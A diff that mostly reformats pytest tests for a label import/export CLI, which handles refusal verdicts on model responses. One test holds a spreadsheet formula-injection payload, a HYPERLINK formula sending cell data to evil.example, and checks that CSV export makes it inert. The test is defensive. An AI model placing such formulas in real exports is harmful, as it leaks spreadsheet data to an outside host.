@@ -50,7 +50,10 @@ def test_export_csv_and_jsonl_hold_every_label(tmp_path, db, capsys):
     assert run(["label", "export", "--format", "csv", "--db", db]) == 0
     rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
     assert [(r["annotator"], r["status"], r["value"]) for r in rows] == [
-        ("alice", "label", "1"), ("alice", "label", "0"), ("bob", "skip", "")]
+        ("alice", "label", "1"),
+        ("alice", "label", "0"),
+        ("bob", "skip", ""),
+    ]
     out = tmp_path / "labels.jsonl"
     assert run(["label", "export", "--format", "jsonl", "--db", db, "--output", str(out)]) == 0
     lines = [json.loads(x) for x in out.read_text().splitlines()]
@@ -61,10 +64,13 @@ def test_export_csv_and_jsonl_hold_every_label(tmp_path, db, capsys):
 
 
 def test_import_a_spreadsheet_csv_once(tmp_path, db, capsys):
-    path = _write(tmp_path / "sheet.csv", "item,model,dimension,value,annotator\n"
-                  "v2-1,gpt4,refusal,1,dana\n"
-                  "v2-1,llama2orig,refusal,no,dana\n"
-                  "v2-19,gpt4,refusal,yes,erin\n")
+    path = _write(
+        tmp_path / "sheet.csv",
+        "item,model,dimension,value,annotator\n"
+        "v2-1,gpt4,refusal,1,dana\n"
+        "v2-1,llama2orig,refusal,no,dana\n"
+        "v2-19,gpt4,refusal,yes,erin\n",
+    )
     assert run(["label", "import", str(path), "--db", db]) == 0
     assert "3 added" in capsys.readouterr().out
     labels = _labels(db)
@@ -74,9 +80,10 @@ def test_import_a_spreadsheet_csv_once(tmp_path, db, capsys):
 
 
 def test_import_the_wide_form(tmp_path, db):
-    path = _write(tmp_path / "wide.csv", "item,model,annotator,refusal,notes\n"
-                  "v2-1,gpt4,dana,1,fine\n"
-                  "v2-19,gpt4,dana,,not judged\n")
+    path = _write(
+        tmp_path / "wide.csv",
+        "item,model,annotator,refusal,notes\nv2-1,gpt4,dana,1,fine\nv2-19,gpt4,dana,,not judged\n",
+    )
     assert run(["label", "import", str(path), "--db", db]) == 2  # without --spec no column names a dimension
     spec = tmp_path / "migration.yaml"
     spec.write_text("incumbent: llama2orig\ncandidates: [gpt4]\ndimensions:\n  refusal: {margin: 0.05}\n")
@@ -84,14 +91,23 @@ def test_import_the_wide_form(tmp_path, db):
     assert _labels(db) == {("v2-1", "gpt4", "refusal"): [1]}
 
 
-@pytest.mark.parametrize("body, where, what", [
-    ("item,model,dimension,value\nv2-1,gpt4,refusal,1\nv2-19,gpt4,refusal,maybe\n", "bad.csv:3",
-     "a verdict is 1 (acceptable) or 0"),
-    ("item,model,dimension,value\nv2-1,gpt4,refusal,1\nnope,gpt4,refusal,1\n", "bad.csv:3",
-     "no stored response for item 'nope'"),
-    ("item,model,value\nv2-1,gpt4,1\n", "bad.csv:1", "no columns 'dimension' and 'value'"),
-    ("model,dimension,value\ngpt4,refusal,1\n", "bad.csv:1", "missing column(s) item"),
-])
+@pytest.mark.parametrize(
+    "body, where, what",
+    [
+        (
+            "item,model,dimension,value\nv2-1,gpt4,refusal,1\nv2-19,gpt4,refusal,maybe\n",
+            "bad.csv:3",
+            "a verdict is 1 (acceptable) or 0",
+        ),
+        (
+            "item,model,dimension,value\nv2-1,gpt4,refusal,1\nnope,gpt4,refusal,1\n",
+            "bad.csv:3",
+            "no stored response for item 'nope'",
+        ),
+        ("item,model,value\nv2-1,gpt4,1\n", "bad.csv:1", "no columns 'dimension' and 'value'"),
+        ("model,dimension,value\ngpt4,refusal,1\n", "bad.csv:1", "missing column(s) item"),
+    ],
+)
 def test_a_bad_file_names_file_and_line_exits_2_and_stores_nothing(tmp_path, db, capsys, body, where, what):
     path = _write(tmp_path / "bad.csv", body)
     assert run(["label", "import", str(path), "--db", db]) == 2
@@ -102,17 +118,39 @@ def test_a_bad_file_names_file_and_line_exits_2_and_stores_nothing(tmp_path, db,
 
 def test_import_a_label_studio_export(tmp_path, db, capsys):
     tasks = [
-        {"id": 11, "data": {"item": "v2-1", "model": "gpt4", "text": "..."},
-         "annotations": [
-             {"id": 101, "completed_by": {"id": 1, "email": "dana@example.com"},
-              "created_at": "2026-11-20T10:00:00.000000Z", "was_cancelled": False,
-              "result": [{"from_name": "refusal", "to_name": "text", "type": "choices",
-                          "value": {"choices": ["Acceptable"]}}]},
-             {"id": 102, "completed_by": 2, "was_cancelled": True, "result": []}]},
-        {"id": 12, "data": {"item": "v2-19", "model": "llama2orig"},
-         "annotations": [{"id": 103, "completed_by": 2,
-                          "result": [{"from_name": "refusal", "type": "choices",
-                                      "value": {"choices": ["Not acceptable"]}}]}]}]
+        {
+            "id": 11,
+            "data": {"item": "v2-1", "model": "gpt4", "text": "..."},
+            "annotations": [
+                {
+                    "id": 101,
+                    "completed_by": {"id": 1, "email": "dana@example.com"},
+                    "created_at": "2026-11-20T10:00:00.000000Z",
+                    "was_cancelled": False,
+                    "result": [
+                        {
+                            "from_name": "refusal",
+                            "to_name": "text",
+                            "type": "choices",
+                            "value": {"choices": ["Acceptable"]},
+                        }
+                    ],
+                },
+                {"id": 102, "completed_by": 2, "was_cancelled": True, "result": []},
+            ],
+        },
+        {
+            "id": 12,
+            "data": {"item": "v2-19", "model": "llama2orig"},
+            "annotations": [
+                {
+                    "id": 103,
+                    "completed_by": 2,
+                    "result": [{"from_name": "refusal", "type": "choices", "value": {"choices": ["Not acceptable"]}}],
+                }
+            ],
+        },
+    ]
     path = _write(tmp_path / "project.json", json.dumps(tasks))
     assert run(["label", "import", str(path), "--db", db]) == 0
     assert _labels(db) == {("v2-1", "gpt4", "refusal"): [1], ("v2-19", "llama2orig", "refusal"): [0]}
@@ -149,8 +187,10 @@ def _export_and_import_into_another_store(tmp_path: Path, db: str, records, fmt:
 
 def test_links_prints_one_login_link_per_account(tmp_path, db, capsys):
     spec = tmp_path / "migration.yaml"
-    spec.write_text("incumbent: llama2orig\ncandidates: [gpt4]\ndimensions:\n  refusal: {margin: 0.05}\n"
-                    "labeling:\n  annotators: [alice, bob]\n")
+    spec.write_text(
+        "incumbent: llama2orig\ncandidates: [gpt4]\ndimensions:\n  refusal: {margin: 0.05}\n"
+        "labeling:\n  annotators: [alice, bob]\n"
+    )
     assert run(["label", "links", "--spec", str(spec), "--db", db, "--base-url", "http://lab:8400"]) == 0
     out = capsys.readouterr().out
     assert out.count("http://lab:8400/login?token=") == 3 and "admin" in out and "bob" in out
@@ -174,7 +214,6 @@ def test_a_flags_note_survives_export_and_import(tmp_path, db, records):
     assert (row["status"], row["note"]) == ("flag", "the response is cut off")
 
 
-
 def test_a_note_a_spreadsheet_would_run_is_exported_inert_and_imported_exact(tmp_path, db, records):
     notes = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "'-1: already quoted by hand"]
     with open_store(db) as store:
@@ -185,7 +224,7 @@ def test_a_note_a_spreadsheet_would_run_is_exported_inert_and_imported_exact(tmp
     out = tmp_path / "labels.csv"
     assert run(["label", "export", "--format", "csv", "--db", db, "--output", str(out)]) == 0
     exported = [row["note"] for row in csv.DictReader(out.open(encoding="utf-8"))]
-    assert exported == ["'" + note for note in notes]       # a spreadsheet shows them as text
+    assert exported == ["'" + note for note in notes]  # a spreadsheet shows them as text
     for fmt in ("csv", "jsonl"):
         (tmp_path / fmt).mkdir()
         other = _export_and_import_into_another_store(tmp_path / fmt, db, records, fmt)
